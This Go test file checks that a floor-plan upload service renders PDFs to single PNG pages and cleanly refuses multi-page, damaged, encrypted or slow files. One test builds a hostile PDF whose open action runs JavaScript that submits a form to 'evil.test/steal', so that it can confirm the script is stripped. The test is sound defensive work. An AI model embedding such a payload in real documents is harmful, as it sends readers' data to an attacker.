package floorplan

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"image/png"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"
)

// poppler skips a test that needs poppler's tools where they are missing,
// but in CI, which installs them.
func poppler(t *testing.T) {
	t.Helper()
	for _, tool := range []string{"pdftoppm", "pdfinfo"} {
		if _, err := exec.LookPath(tool); err != nil {
			if os.Getenv("CI") != "" {
				t.Fatalf("%s is missing: install poppler-utils (apt-get install poppler-utils)", tool)
			}
			t.Skipf("%s is missing: install poppler-utils (apt-get install poppler-utils)", tool)
		}
	}
}

// checkerIn returns a Checker with the default limits that draws PDFs in
// a directory of the test's, and the directory. It draws pages 1,000 px on
// their long side rather than 4,000, which takes a sixteenth of the time.
func checkerIn(t *testing.T) (*Checker, string) {
	dir := t.TempDir()
	l := DefaultLimits()
	l.TempDir = dir
	l.PDFSide = 1000
	return NewChecker(l), dir
}

// nothingLeft checks that dir is empty.
func nothingLeft(t *testing.T, dir string) {
	t.Helper()
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		t.Errorf("left on disk: %s", e.Name())
	}
}

// TestAcceptPDFDrawsOnePage: a one-page PDF becomes a PNG of its page,
// Limits.PDFSide on its long side, and nothing of it stays on disk.
func TestAcceptPDFDrawsOnePage(t *testing.T) {
	t.Parallel()
	poppler(t)
	c, dir := checkerIn(t)
	p, err := c.Accept(context.Background(), bytes.NewReader(pdfPages(1, "")))
	if err != nil {
		t.Fatal(err)
	}
	if p.Type != PNG || p.From != PDF || p.Height != 1000 || p.Width != 707 {
		t.Errorf("got %s from %s, %d × %d; want a PNG from a PDF, 707 × 1000", p.Type, p.From, p.Width, p.Height)
	}
	img, err := png.Decode(bytes.NewReader(p.Data))
	if err != nil {
		t.Fatal(err)
	}
	if r, g, b, _ := img.At(p.Width/2, p.Height/2).RGBA(); r>>8 > 40 || g>>8 > 70 || b>>8 > 90 {
		t.Errorf("the middle of the page is %d,%d,%d, want the dark rectangle drawn on it", r>>8, g>>8, b>>8)
	}
	nothingLeft(t, dir)
}

// TestAcceptPDFWithJavaScript: a PDF that runs JavaScript when opened is
// drawn as an image only: the plan is a PNG of its page, and nothing of
// the script is in it.
func TestAcceptPDFWithJavaScript(t *testing.T) {
	t.Parallel()
	poppler(t)
	c, dir := checkerIn(t)
	js := `<< /Type /Action /S /JavaScript /JS (app.alert\('floor'\); this.submitForm\('https://evil.test/steal'\);) >>`
	in := pdfPages(1, "/OpenAction 5 0 R /Names << /JavaScript << /Names [(x) 5 0 R] >> >>", js)
	file := filepath.Join(t.TempDir(), "hostile.pdf")
	if err := os.WriteFile(file, in, 0o600); err != nil {
		t.Fatal(err)
	}
	if info, err := exec.Command("pdfinfo", file).Output(); err != nil || !regexp.MustCompile(`JavaScript: +yes`).Match(info) {
		t.Fatalf("poppler does not see the test's PDF as one with JavaScript (%v):\n%s", err, info)
	}
	p, err := c.Accept(context.Background(), bytes.NewReader(in))
	if err != nil {
		t.Fatal(err)
	}
	if p.Type != PNG || !bytes.HasPrefix(p.Data, []byte("\x89PNG")) {
		t.Fatalf("got %s, want a PNG", p.Type)
	}
	for _, gone := range []string{"JavaScript", "app.alert", "evil.test", "%PDF"} {
		if bytes.Contains(p.Data, []byte(gone)) {
			t.Errorf("the plan holds %q", gone)
		}
	}
	nothingLeft(t, dir)
}

// TestAcceptPDFRefusesMorePages: a PDF of two pages is refused in words,
// and nothing of it stays on disk.
func TestAcceptPDFRefusesMorePages(t *testing.T) {
	t.Parallel()
	poppler(t)
	c, dir := checkerIn(t)
	_, err := c.Accept(context.Background(), bytes.NewReader(pdfPages(2, "")))
	refusedAs(t, err, Pages, "This PDF has 2 pages; a plan is one page")
	nothingLeft(t, dir)
}

// TestAcceptPDFRefusesBrokenOnes: a damaged PDF, one locked with a
// password, and one that would take longer than the limit to draw, are
// refused in words (never a server error) and leave nothing on disk.
func TestAcceptPDFRefusesBrokenOnes(t *testing.T) {
	t.Parallel()
	poppler(t)
	c, dir := checkerIn(t)
	_, err := c.Accept(context.Background(), bytes.NewReader([]byte("%PDF-1.4\nthis is no PDF at all\n%%EOF\n")))
	refusedAs(t, err, Unreadable, "This PDF could not be read")
	nothingLeft(t, dir)

	// Encrypted for a password that is not the empty one: the reader
	// must type it.
	locked := pdfWithTrailer(fmt.Sprintf("/Encrypt 4 0 R /ID [<%s> <%s>] ", strings.Repeat("00", 16), strings.Repeat("00", 16)),
		"<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
		fmt.Sprintf("<< /Filter /Standard /V 1 /R 2 /O <%s> /U <%s> /P -4 >>", strings.Repeat("41", 32), strings.Repeat("42", 32)))
	_, err = c.Accept(context.Background(), bytes.NewReader(locked))
	refusedAs(t, err, Password, "This PDF opens only with a password")
	nothingLeft(t, dir)

	l := c.Limits()
	l.PDFTimeout = time.Nanosecond // over before the tool starts
	_, err = NewChecker(l).Accept(context.Background(), bytes.NewReader(pdfPages(1, "")))
	refusedAs(t, err, TooSlow, "This PDF took longer than 1 second to draw")
	nothingLeft(t, dir)
}

// TestAcceptPDFWithoutPoppler: without pdftoppm, a PDF is not refused as
// the upload's fault: the error says how to install the tool.
func TestAcceptPDFWithoutPoppler(t *testing.T) {
	t.Parallel()
	c, dir := checkerIn(t)
	c.pdfinfo, c.pdftoppm = "/nonexistent/pdfinfo", "/nonexistent/pdftoppm"
	_, err := c.Accept(context.Background(), bytes.NewReader(pdfPages(1, "")))
	var te *ToolError
	if !errors.As(err, &te) || !bytes.Contains([]byte(te.Msg), []byte("apt-get install poppler-utils")) {
		t.Fatalf("got %v, want a ToolError that says how to install poppler-utils", err)
	}
	var refused *Error
	if errors.As(err, &refused) {
		t.Errorf("a missing tool is refused as the upload's fault: %v", refused)
	}
	nothingLeft(t, dir)
}
